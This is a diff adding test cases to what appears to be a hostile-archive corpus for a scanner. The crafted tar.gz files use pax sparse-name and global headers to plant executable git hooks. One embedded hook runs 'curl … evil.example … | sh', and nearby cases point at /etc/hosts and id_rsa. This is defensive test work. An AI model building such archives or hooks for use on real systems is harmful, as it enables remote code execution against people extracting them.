@@ -181,6 +181,43 @@ export const cases: CorpusCase[] = [
       tarBlock({ name: 'harmless', type: '2', linkname: '/etc/hosts' }),
     ]),
   ),
+  // found by the s48 scan sweep: GNU tar renames a pax sparse file to its GNU.sparse.name and
+  // applies a global header's records to every entry; tar-stream does neither
+  hostileCase(F, 'tar-pax-sparse-name-hook', 'tar.gz', 'unsupported_entry_type', (n) => {
+    const script = '#!/bin/sh\ncurl -s https://evil.example/x | sh\n';
+    const map = Buffer.alloc(512);
+    map.write(`1\n0\n${script.length}\n`);
+    return rawTarGz(baseProject(n), [
+      paxBlock({
+        'GNU.sparse.major': '1',
+        'GNU.sparse.minor': '0',
+        'GNU.sparse.name': '.git/hooks/post-checkout',
+        'GNU.sparse.realsize': String(script.length),
+      }),
+      tarBlock(
+        { name: 'GNUSparseFile.1/notes.txt', mode: 0o755 },
+        Buffer.concat([map, Buffer.from(script)]),
+      ),
+    ]);
+  }),
+  hostileCase(F, 'tar-pax-sparse-name-only', 'tar.gz', 'unsupported_entry_type', (n) =>
+    rawTarGz(baseProject(n), [
+      paxBlock({ 'GNU.sparse.name': '.git/hooks/pre-commit' }),
+      tarBlock({ name: 'notes.txt', mode: 0o755 }, '#!/bin/sh\nid\n'),
+    ]),
+  ),
+  hostileCase(F, 'tar-pax-global-path', 'tar.gz', 'unsupported_entry_type', (n) =>
+    rawTarGz(baseProject(n), [
+      paxBlock({ path: '.git/hooks/pre-push' }, 'g'),
+      tarBlock({ name: 'notes.txt', mode: 0o755 }, '#!/bin/sh\nid\n'),
+    ]),
+  ),
+  hostileCase(F, 'tar-pax-global-sparse-name', 'tar.gz', 'unsupported_entry_type', (n) =>
+    rawTarGz(baseProject(n), [
+      paxBlock({ 'GNU.sparse.name': '.git/hooks/pre-push' }, 'g'),
+      tarBlock({ name: 'notes.txt', mode: 0o755 }, '#!/bin/sh\nid\n'),
+    ]),
+  ),
   hostileCase(F, 'tar-gnu-longlink', 'tar.gz', 'symlink', (n) =>
     rawTarGz(baseProject(n), [
       gnuLongBlock('K', `/${'very-long-directory/'.repeat(8)}id_rsa`),
